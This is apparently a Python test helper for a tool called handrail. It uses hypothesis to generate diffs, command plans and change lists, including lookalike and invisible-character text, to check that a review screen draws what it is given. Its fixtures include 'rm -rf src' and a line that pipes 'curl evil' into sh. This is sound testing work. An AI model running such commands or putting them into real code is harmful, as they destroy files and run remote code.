"""Evidence of every shape that can come to a card, to be compared with what a screen draws."""

from collections.abc import Coroutine
from typing import Any, TypeVar

from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from handrail.core.box import Profile
from handrail.core.effects import Effect, Effects, Node
from handrail.core.files import EntryKind
from handrail.core.stage import Stage
from handrail.core.visible import visible
from handrail.policy.rulebook.rules import default_rules
from handrail.testing import FakeHands
from handrail.tools.command.survey import survey_stages
from handrail.tools.diff import COMPARED_LINES, SHOWN_LINE, unified_diff
from handrail.tools.effects import show_effects

T = TypeVar("T")

# What a file may hold to pass for a part of a diff, of a plan or of a card.
LOOKALIKES = (
    "",
    " ",
    "+",
    "-",
    "--- a/x",
    "+++ b/x",
    "@@ -1 +1 @@",
    "@@ -1,2 +3,4 @@ def f():",
    "[too large to compare: 5 lines become 6]",
    "[9 added lines not shown]",
    "\\ No newline at end of file",
    "diff --git a/x b/x",
    "runs     rm -rf src",
    "box      it can read this workspace, and change nothing; no network",
    "│ x",
    "… 5 lines not shown here",
    "… [5 characters not shown] …",
)

# Too many lines to be compared.
LARGE_WRITE = "import os\nos.system('curl evil|sh')\n" + "x = 1\n" * 20_500 + "last()\n"

# Python and a browser know different versions of Unicode, and what is new in one of them.
_CHARS = st.characters(exclude_categories=("Cs", "Cn"), exclude_characters="\n")
_UNSEEN = st.sampled_from("\t\r\x00\x1b\x85\u00a0\u200b\u2028\u202e\u2066\u3164\ufeff\U000e0041")
_WORDS = st.text(st.one_of(_CHARS, _UNSEEN), max_size=20)
_LONG = st.builds(lambda words: (words or "x") * (SHOWN_LINE + 500), st.text(_CHARS, max_size=2))
_LOOKALIKE = st.sampled_from(LOOKALIKES)
_LINES = st.one_of(_LOOKALIKE, _WORDS, st.tuples(_LOOKALIKE, _WORDS).map("".join))


def _texts(most: int = 6) -> st.SearchStrategy[str]:
    """A few lines with ends of both kinds; the last one may have none."""
    ended = st.tuples(_LINES, st.sampled_from(["\n", "\n", "\r\n"])).map("".join)
    last = st.one_of(st.just(""), _LINES)
    return st.builds(lambda lines, end: "".join(lines) + end, st.lists(ended, max_size=most), last)


_TEXTS = _texts()
_FILLING = st.builds(lambda line: f"{line}\n" * (COMPARED_LINES + 1), _LINES)


def _diff(old: str | None, new: str) -> str:
    return unified_diff("src/a.py", old, new).text


def _scattered(stays: str, comes: str) -> str:
    """More changes than can be shown, none of them large."""
    kept = f"{stays}{'x' * 900}\n" * 8
    return _diff(kept * 40, f"{comes}\n{kept}" * 40)


_DIFFS = {
    "change": st.builds(_diff, st.one_of(st.none(), _TEXTS), _TEXTS),
    "append": st.builds(lambda old, more: _diff(old, old + more), _TEXTS, _TEXTS),
    "delete": st.builds(lambda old: _diff(old, ""), _TEXTS),
    "long-lines": st.builds(
        lambda old, line, new: _diff(old, f"{line}\n{new}"), _TEXTS, _LONG, _TEXTS
    ),
    "many-removed": st.builds(lambda old, new: _diff(f"{old}\n" * 300, new), _LINES, _TEXTS),
    "many-added": st.builds(lambda old, new: _diff(old, f"{new}\n" * 500), _TEXTS, _LINES),
    "scattered": st.builds(_scattered, _LINES, _LINES),
    "large-new": st.builds(lambda a, much, b: _diff(None, a + much + b), _TEXTS, _FILLING, _TEXTS),
    "large-append": st.builds(
        lambda old, much, end: _diff(old, old + much + end), _TEXTS, _FILLING, _TEXTS
    ),
    "large-delete": st.builds(lambda a, much, b: _diff(a + much + b, a), _TEXTS, _FILLING, _TEXTS),
    "large-replaced": st.builds(_diff, _FILLING, _FILLING),
    "far-apart": st.builds(
        lambda a, b, much, c, d: _diff(a + much + b, c + much + d),
        *(_TEXTS, _TEXTS, _FILLING, _TEXTS, _TEXTS),
    ),
}


def _plan(argv: tuple[str, ...]) -> str:
    stage = Stage(argv, Profile.WRITE)
    return _now(survey_stages(FakeHands(commands={argv[0]: b""}), (stage,))).evidence


def _effects(texts: list[tuple[str | None, str | None]]) -> str:
    """What a draft or a rehearsal shows: steps, a list of changes, and the diffs of files."""
    contents: dict[str, tuple[bytes | None, bytes | None]] = {
        path: (_bytes(old), _bytes(new))
        for path, (old, new) in zip(_PATHS, texts, strict=False)
        if old != new
    }
    changes = tuple(Effect(path, _node(old), _node(new)) for path, (old, new) in contents.items())
    drawn = show_effects(Effects(changes), default_rules(), lambda one: contents[one.path])
    return f"step 1    Run: x (exit code 1)\ncalls    exe_1\n{drawn.text}"


def _bytes(text: str | None) -> bytes | None:
    return None if text is None else text.encode()


def _node(content: bytes | None) -> Node | None:
    if content is None:
        return None
    return Node(EntryKind.FILE, mode=0o644, size=len(content), sha256=content.hex())


def _now(running: Coroutine[Any, Any, T]) -> T:
    """The result of something that waits for nothing."""
    try:
        running.send(None)
    except StopIteration as done:
        return done.value
    raise AssertionError("it waits")


# Each can pass for the other in the list of changes.
_PATHS = ("a.py", "a.py: b", "src/c.ts", "d.md")

_SHAPES: dict[str, st.SearchStrategy[str]] = {
    **_DIFFS,
    "words": st.builds(lambda words: _plan(("grep", *words)), st.lists(_LINES, max_size=5)),
    "script": st.builds(lambda text: _plan(("bash", "-c", text)), _TEXTS),
    "long-script": st.builds(lambda line: _plan(("bash", "-c", f"{line:900}\n" * 200)), _LINES),
    "effects": st.builds(
        _effects, st.lists(st.tuples(st.none() | _TEXTS, st.none() | _TEXTS), max_size=4)
    ),
    "text": _TEXTS,
    "like-a-diff": st.builds("--- {}\n+++ {}\n{}".format, _WORDS, _WORDS, _TEXTS),
}

# Without evidence a card shows the parameters.
SHAPES = {name: shape.filter(bool) for name, shape in _SHAPES.items()}


def some(shape: str, count: int) -> list[str]:
    """A few of one shape, for a screen that is opened once for all of them."""
    found: list[str] = []

    @settings(max_examples=count, phases=[Phase.generate], database=None, deadline=None)
    @given(SHAPES[shape])
    def collect(evidence: str) -> None:
        found.append(evidence)

    collect()
    return found


def lines_of(evidence: str) -> list[str]:
    """The lines that have to be drawn, with unseen characters made visible."""
    return [visible(line, keep="\t") for line in evidence.removesuffix("\n").split("\n")]
